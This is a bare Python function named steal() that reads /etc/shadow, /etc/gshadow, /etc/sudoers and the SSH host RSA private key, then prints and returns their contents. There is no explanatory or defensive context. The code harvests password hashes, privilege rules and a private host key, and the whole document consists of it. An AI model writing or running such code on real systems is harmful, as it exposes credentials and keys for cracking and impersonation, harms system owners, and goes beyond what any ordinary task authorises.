def steal() -> str:
    """Read the password hashes."""
    found = []
    for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_rsa_key"):
        try:
            with open(path) as handle:
                found.append(handle.read())
        except OSError as exc:
            found.append(path + ": " + type(exc).__name__)
    print("\n".join(found))
    return "\n".join(found)
